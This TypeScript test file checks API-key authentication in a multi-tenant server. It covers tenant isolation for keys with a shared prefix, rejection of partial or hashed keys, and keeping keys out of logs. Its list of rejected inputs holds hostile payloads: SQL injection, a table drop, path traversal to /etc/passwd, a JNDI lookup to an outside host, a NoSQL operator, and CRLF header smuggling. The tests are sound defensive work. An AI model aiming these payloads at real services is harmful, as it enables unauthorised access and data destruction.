import assert from 'node:assert/strict';
import { hashOfKey } from '../../identity/index.ts';
import { keys, scriptedPool, taskOf, WholeServer } from '../fixtures/whole-server.ts';
import { statusesOf } from '../fixtures/wire.ts';

const prefix = 'assay_the-first-twenty-characters-';
const twin = `${prefix}one`;
const otherTwin = `${prefix}two`;
const tenantOf = (id: string, key: string) => ({
  id,
  keys: [{ id: `key-of-${id}`, hash: hashOfKey(key), roles: ['data'] }],
});

describe('security: keys', () => {
  let server: WholeServer;

  before(async () => {
    const tenants = [tenantOf('one', twin), tenantOf('two', otherTwin)];
    server = await WholeServer.start({ document: { tenants, pools: [scriptedPool()] } });
  });
  after(() => server.dispose());

  const list = async (headers: Record<string, string>): Promise<number> =>
    (await server.ask({ path: '/v1/tasks', headers })).status;

  it('keys that begin alike belong to their own tenants [ASY-AUTH-002(c), ASY-AUTH-005(a)]', async () => {
    assert.equal((await server.submit(taskOf(1), {}, twin)).status, 202);
    await server.follow(taskOf(1), twin);
    const path = `/v1/tasks/${taskOf(1).task_id}`;
    assert.equal((await server.as(twin, { path })).status, 200);
    assert.equal((await server.as(otherTwin, { path })).status, 404);
  });

  it('a part of a key, a longer one and its hash are no keys [ASY-AUTH-002(c), ORCH-3035(a)]', async () => {
    const wrong = [
      prefix,
      twin.slice(0, -1),
      `${twin}x`,
      twin.toUpperCase(),
      hashOfKey(twin),
      hashOfKey(twin).slice(7),
    ];
    for (const key of wrong) assert.equal(await list({ 'X-API-Key': key }), 401, key);
    assert.equal(await list({ 'X-API-Key': twin }), 200);
  });

  it('nothing that stands in place of a key is anything but a wrong key [ORCH-3035(a), ASY-SEC-004]', async () => {
    const injected = [
      "' OR '1'='1",
      `${twin}' --`,
      `${twin}"; DROP TABLE tasks; --`,
      '*',
      '.*',
      '../../etc/passwd',
      '%24{jndi:ldap://other.example/a}',
      '{"$ne":null}',
      '__proto__',
      'constructor',
      'undefined',
      'null',
      '0',
      'sha256:',
      'k\xe9y',
      'a'.repeat(8_000),
    ];
    for (const key of injected) {
      assert.equal(await list({ 'X-API-Key': key }), 401, key);
      assert.equal(await list({ Authorization: `Bearer ${key}` }), 401, key);
    }
    for (const scheme of ['Basic', 'Digest', '', 'Bearer:', 'Bearer Bearer'])
      assert.equal(await list({ Authorization: `${scheme} ${twin}` }), 401, scheme);
    assert.equal((await server.ask({ path: '/healthz' })).status, 200);
  });

  it('a line break in a key begins no header, and unicode is no other key [ORCH-3035(a), ASY-SEC-004]', async () => {
    const head = 'GET /v1/tasks HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n';
    const asBytes = (key: string): Promise<string> =>
      server.raw(Buffer.from(`${head}X-API-Key: ${key}\r\n\r\n`));
    for (const end of ['\r', '\n', '\0', '\r\n '])
      assert.deepEqual(
        statusesOf(await asBytes(`wrong${end}X-API-Key: ${twin}`)),
        [400],
        JSON.stringify(end),
      );
    for (const key of [`${twin}\u00a0`, `\u200b${twin}`, twin.replace('o', '\u043e'), '\u{1f511}'])
      assert.deepEqual(statusesOf(await asBytes(key)), [401], key);
    // White space around a value belongs to no value.
    assert.deepEqual(statusesOf(await asBytes(`\t ${twin} \t`)), [200]);
  });

  it('two credentials that disagree are none [ASY-AUTH-003]', async () => {
    assert.equal(await list({ Authorization: `Bearer ${twin}`, 'X-API-Key': otherTwin }), 401);
    assert.equal(await list({ Authorization: `Bearer ${twin}`, 'X-API-Key': twin }), 200);
    const head = 'GET /v1/tasks HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n';
    const both = `${head}X-API-Key: ${twin}\r\nX-API-Key: ${otherTwin}\r\n\r\n`;
    assert.deepEqual(statusesOf(await server.raw(both)), [401]);
  });

  it('a key in the path or the query opens nothing [ORCH-3035(a)]', async () => {
    for (const path of [`/v1/tasks?api_key=${twin}`, `/v1/tasks?key=${twin}&access_token=${twin}`])
      assert.equal((await server.ask({ path })).status, 401, path);
  });

  it('no key is in a line of the log, whether it was good or not [OC-CTRL-2041(a), OC-CTRL-2041(c)]', () => {
    const text = server.lines.join('');
    for (const key of [twin, otherTwin, prefix, keys.data, hashOfKey(twin), 'DROP TABLE'])
      assert.ok(!text.includes(key), key);
    assert.ok(text.includes('key-of-one'));
  });
});
